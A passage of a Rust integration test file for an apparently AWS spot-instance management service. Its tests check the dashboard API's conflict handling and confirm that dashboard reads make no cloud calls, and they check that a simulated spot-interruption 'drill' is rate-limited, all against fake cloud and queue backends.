        body["error"]
            .as_str()
            .is_some_and(|e| e.contains("was started by `up`")),
        "{body}"
    );
    let mut launch = spotkeeper_cloud::LaunchSpec::new(
        spotkeeper_cloud::ImageId::new("ami-0123456789abcdef0"),
        "t3.micro",
    );
    launch.tags.insert(tags::OWNER.into(), "tester".into());
    launch.tags.insert(tags::BOX.into(), "other-machine".into());
    w.cloud.launch(&launch).await.expect("launch");
    b["name"] = json!("other-machine");
    let (status, body) = w.post("/api/boxes", &b).await;
    assert_eq!(status, StatusCode::CONFLICT, "{body}");
    assert!(
        body["error"]
            .as_str()
            .is_some_and(|e| e.contains("runs already")),
        "{body}"
    );
    // Nothing of these was stored or launched.
    let managed: Vec<String> = w
        .store
        .for_owner("tester")
        .managed_boxes()
        .await
        .expect("managed")
        .into_iter()
        .map(|b| b.name)
        .collect();
    assert_eq!(managed, ["cli-box", "web"]);
    assert_eq!(
        w.cloud.count("RunInstances"),
        1,
        "only the test's own launch"
    );
}

#[tokio::test]
async fn the_dashboard_reads_the_daemons_last_observation_and_asks_aws_nothing() {
    let w = world().await;
    // Before the daemon's first pass: nothing observed, said so, no call.
    let (s, boxes) = w.call("GET", "/api/boxes", Some(TOKEN), None).await;
    assert_eq!(s, StatusCode::OK, "{boxes}");
    assert_eq!(boxes[0]["observed_at"], Value::Null, "{boxes}");
    assert_eq!(boxes[0]["instance_id"], Value::Null, "{boxes}");
    assert!(w.cloud.calls().is_empty(), "{:?}", w.cloud.calls());

    w.store
        .for_owner("tester")
        .register_box("from-config", "up", None)
        .await
        .expect("managed");
    let daemon = w.daemon().with_timing(Timing {
        poll: Duration::from_millis(1),
        running_timeout: Duration::from_secs(5),
        stop_timeout: Duration::from_secs(5),
    });
    daemon.reconcile().await.expect("launch");
    daemon.reconcile().await.expect("observe it running");
    let launched = w.cloud.all_instances();
    assert_eq!(launched.len(), 1, "{launched:?}");
    let before = w.cloud.calls().len();
    // What the page fetches on a refresh (and every third one), three times.
    for _ in 0..3 {
        for uri in [
            "/api/boxes",
            "/api/boxes/from-config",
            "/api/pools",
            "/api/events?limit=200",
            "/api/notify",
            "/api/daemons",
            "/api/charts/prices?box=from-config",
        ] {
            let (s, b) = w.call("GET", uri, Some(TOKEN), None).await;
            assert_eq!(s, StatusCode::OK, "{uri}: {b}");
        }
    }
    let (_, boxes) = w.call("GET", "/api/boxes", Some(TOKEN), None).await;
    let calls = w.cloud.calls();
    assert_eq!(
        &calls[before..],
        &[] as &[String],
        "the dashboard's reads made AWS calls"
    );
    assert_eq!(
        boxes[0]["instance_id"],
        launched[0].id.to_string(),
        "{boxes}"
    );
    assert_eq!(boxes[0]["state"], "running", "{boxes}");
    let at = boxes[0]["observed_at"].as_i64().expect("observed");
    let now = spotkeeper_engine::store::unix_now();
    assert!((now - 60..=now).contains(&at), "observed {at}, now {now}");
}

#[tokio::test]
async fn a_drill_sends_an_eventbridge_warning_for_the_live_instance_and_only_once_a_minute() {
    use spotkeeper_cloud::fake::FakeQueue;
    let w = world().await;
    let (s, b) = w.post("/api/boxes", &good_box()).await;
    assert_eq!(s, StatusCode::CREATED, "{b}");
    let drill = |uri: &'static str| w.call("POST", uri, Some(TOKEN), None);
    let (s, b) = drill("/api/boxes/nope/drill").await;
    assert_eq!(s, StatusCode::NOT_FOUND, "{b}");
    let (s, b) = drill("/api/boxes/web/drill").await;
    assert_eq!(s, StatusCode::CONFLICT, "not seen running yet: {b}");
    let daemon = w.daemon().with_timing(Timing {
        poll: Duration::from_millis(1),
        running_timeout: Duration::from_secs(5),
        stop_timeout: Duration::from_secs(5),
    });
    daemon.reconcile().await.expect("pass");
    daemon.reconcile().await.expect("pass");
    let (s, b) = drill("/api/boxes/web/drill").await;
    assert_eq!(s, StatusCode::SERVICE_UNAVAILABLE, "no queue yet: {b}");

    let queue = Arc::new(FakeQueue::new());
    assert!(w.queue.set(queue.clone()).is_ok());
    let (s, b) = w
        .call(
            "POST",
            "/api/boxes/web/drill?rebalance=maybe",
            Some(TOKEN),
            None,
        )
        .await;
    assert_eq!(s, StatusCode::BAD_REQUEST, "{b}");
    let (s, b) = w.call("POST", "/api/boxes/web/drill", None, None).await;
    assert_eq!(s, StatusCode::UNAUTHORIZED, "{b}");
    let (s, b) = drill("/api/boxes/web/drill").await;
    assert_eq!(s, StatusCode::ACCEPTED, "{b}");
    let instance = b["instance_id"].as_str().expect("id").to_owned();
    let sent = queue.receive().await.expect("a message");
    assert_eq!(sent.len(), 1);
    let event = spotkeeper_engine::events::parse(&sent[0].body).expect("EventBridge's shape");
    assert_eq!(event.id, b["event_id"].as_str().expect("event id"));
    assert!(spotkeeper_engine::drill::is_drill(&event.id));
    assert!(
        matches!(&event.kind, spotkeeper_engine::events::Notice::SpotInterruption { instance: i, .. } if i.as_str() == instance),
        "{event:?}"
    );
    // The daemon acts on it as on AWS's, and says it was a drill.
    let handled = daemon.handle(&sent[0].body).await.expect("handled");
    assert!(format!("{handled:?}").contains("(drill)"), "{handled:?}");

    // Once a minute per box.
    let (s, b) = drill("/api/boxes/web/drill").await;
    assert_eq!(s, StatusCode::CONFLICT, "{b}");
    assert!(queue.in_flight().len() == 1, "nothing more was sent");
    let events = w.events("/api/events?box=web&limit=20").await;
    assert_eq!(
        events.iter().filter(|e| e["kind"] == "drill").count(),
        1,
        "{events:?}"
    );
}
